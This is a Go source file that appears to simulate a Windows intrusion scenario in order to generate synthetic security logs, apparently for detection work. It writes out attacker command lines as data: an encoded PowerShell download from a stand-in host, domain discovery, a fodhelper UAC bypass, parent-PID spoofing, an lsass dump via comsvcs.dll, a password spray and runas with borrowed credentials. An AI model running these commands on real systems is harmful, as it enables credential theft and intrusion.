package scenario

import "fmt"

// intrusion is the story of STORY.md: hosts, accounts, and the processes that
// later steps build on. All payloads are fictitious text.
type intrusion struct {
	*sim
	begin                  ticks // 10:17 of the last working day; hands are some seconds late
	first, second, fs, dc  *machine
	script, implant, admin *proc // PowerShell, updsvc.exe, the elevated prompt
	other                  *proc // the prompt that runas opened
	domain                 *session
}

// planIntrusion puts the story on the agenda.
func (s *sim) planIntrusion() {
	last := s.midnight(s.cfg.Days - 1)
	for !workday(last) && last > s.from {
		last -= day
	}
	x := &intrusion{sim: s, begin: last + 10*hour + 17*minute, first: s.machineOf(Workstation, 0),
		second: s.machineOf(Workstation, 1), fs: s.machineOf(FileServer, 0), dc: s.machineOf(DomainController, 0)}
	x.step(0, x.openDocument)
	x.step(2*minute, x.discover)
	x.step(7*minute, x.hide)
	x.step(14*minute, x.elevate)
	x.step(16*minute, x.dump)
	x.step(19*minute, x.spray)
	x.step(27*minute, x.borrow)
	x.step(35*minute, x.wmi)
	x.step(51*minute, x.winRM)
	x.step(74*minute, x.psExec)
	x.step(94*minute, x.clear)
}

// step plans f at a distance from the story's beginning. Where its host is
// down or its user absent, the story ends early.
func (x *intrusion) step(d ticks, f func()) {
	x.at(x.begin+d+x.dice.between(0, 9*second), func() {
		if x.first.console.signedIn() && x.dc.up && x.fs.up {
			f()
		}
	})
}

func (x *intrusion) note(name string, p *proc, what string) *proc {
	x.truth.step(name, p, what)
	return p
}

const firstStage = `# demo data, harmless: example.test does not exist
Invoke-WebRequest -Uri 'http://updates.example.test/inv4471.txt' -OutFile "$env:TEMP\readme.txt"
Write-Output 'stage one of a made-up story'`

// openDocument: Outlook, Word, a script host, PowerShell.
func (x *intrusion) openDocument() {
	m, d := x.first, x.first.console
	parent := d.explorer
	if d.outlook != nil && d.outlook.alive {
		parent = d.outlook
	}
	word := x.note("word", m.forUser(d, parent, "winword.exe", `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\`+d.user.name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K3J9QX2A\Invoice_4471.docm" /o ""`), "the invoice that came by mail")
	m.endsAfter(9*minute, word)
	m.after(17*second, func() {
		host := x.note("script-host", m.child(word, "wscript.exe", `wscript.exe //B "C:\Users\`+d.user.name+`\AppData\Local\Temp\inv4471.vbs"`), "the macro's script")
		m.endsAfter(9*second, host)
		m.after(2*second, func() {
			x.script = x.note("powershell", m.shell(host, "powershell.exe", `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand `+encodedCommand(firstStage)), "PowerShell with an encoded command")
		})
	})
}

// discover looks around.
func (x *intrusion) discover() {
	m := x.first
	for i, c := range []struct{ name, cmd string }{
		{"whoami.exe", "whoami.exe /all"}, {"net.exe", "net.exe user /domain"}, {"net.exe", `net.exe group "Domain Admins" /domain`},
		{"nltest.exe", "nltest.exe /dclist:example.test"}, {"ipconfig.exe", "ipconfig.exe /all"}, {"tasklist.exe", "tasklist.exe /v"},
	} {
		m.after(ticks(i)*m.dice.between(18*second, 26*second), func() {
			p := x.note(fmt.Sprintf("discovery-%d", i+1), m.child(x.script, c.name, `"C:\Windows\system32\`+c.name+`" `+c.cmd[len(c.name)+1:]), c.cmd)
			if c.name == "net.exe" {
				m.endsAfter(second/2, m.child(p, "net1.exe", `C:\Windows\system32\net1 `+c.cmd[len(c.name)+1:]))
			}
			m.endsAfter(m.dice.between(second, 3*second), p)
		})
	}
}

// hide starts the implant below a borrowed parent: Sysmon is told explorer.exe,
// the audit record names PowerShell.
func (x *intrusion) hide() {
	m, d := x.first, x.first.console
	x.implant = x.note("spoofed-parent", m.start(spawn{prog: x.programs.get("updsvc.exe"), cmd: `C:\Users\Public\Libraries\updsvc.exe -k netsvcs`, dir: `C:\Users\Public\Libraries\`,
		parent: x.script, claimed: d.explorer, sess: d.sess, level: medium, terminal: d.number}), "the implant; PowerShell started it and explorer.exe is shown")
	m.endsAfter(minute, x.script)
}

// elevate takes the full half of the user's UAC pair by an auto-elevating
// program.
func (x *intrusion) elevate() {
	m, d := x.first, x.first.console
	full := d.sess
	if d.sess.linked != nil {
		full = d.sess.linked
	}
	helper := x.note("elevation", m.start(spawn{prog: x.programs.get("fodhelper.exe"), cmd: `"C:\Windows\system32\fodhelper.exe" `, parent: x.implant, sess: full, level: high, terminal: d.number}), "an auto-elevating program")
	m.after(second, func() {
		x.admin = x.note("elevated-shell", m.shell(helper, "cmd.exe", `"C:\Windows\system32\cmd.exe" /k cd C:\ProgramData`), "a prompt in the elevated session")
		m.endsAfter(2*second, helper)
	})
}

// dump writes the memory of lsass.exe; the administrators' task is running.
func (x *intrusion) dump() {
	m := x.first
	p := x.note("lsass-dump", m.child(x.admin, "rundll32.exe", fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\ProgramData\d.tmp full`, m.lsass.pid)), "the memory of lsass.exe")
	m.endsAfter(4*second, p)
}

// spray tries one password on many accounts of the file server.
func (x *intrusion) spray() {
	m := x.first
	p := x.note("spray", m.shell(x.implant, "powershell.exe", `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\chk.ps1 -Server FS01`), "one password against many accounts")
	names := []string{"administrator", "guest", "scanner", "helpdesk", "reception", "svc_sql", "svc_print", "training", "finance", "m.ito", "j.rossi", "backup"}
	for _, other := range x.machines {
		if other.owner != nil && len(names) < 22 {
			names = append(names, other.owner.name)
		}
	}
	for i, name := range names {
		m.after(second+ticks(i)*m.dice.between(1500*millisecond, 2200*millisecond), func() {
			known := i == 0 || i >= 12
			x.fs.failedLogon(name, known, clientAt(m, m.port(), true))
		})
	}
	m.after(50*second, func() {
		s := x.fs.logon(x.backup, 3, clientAt(m, m.port(), true))
		x.fs.after(40*second, func() { x.fs.logoff(s) })
		m.exit(p, 0)
	})
}

// borrow uses the dumped password: explicit credentials through runas.
func (x *intrusion) borrow() {
	m, d := x.first, x.first.console
	helper := x.note("runas", m.shell(x.implant, "runas.exe", `runas.exe /user:EXAMPLE\adm-brandt "cmd.exe /k title chk"`), "explicit credentials (4648)")
	m.after(4*second, func() {
		secondary := m.hosts["seclogon"]
		m.explicitLogon(d.sess, x.sim.admin, "localhost", secondary, "::1")
		s := m.logon(x.sim.admin, 2, client{address: "::1", process: "seclogo", pack: "Negotiate", workstation: m.host.NetBIOS, caller: secondary})
		x.domain = s
		x.other = x.note("runas-shell", m.start(spawn{prog: x.programs.get("cmd.exe"), cmd: "cmd.exe /k title chk", parent: helper, sess: s, level: medium, terminal: d.number}), "a prompt as the domain's administrator")
		m.consoleHost(x.other)
		m.endsAfter(second, helper)
	})
}
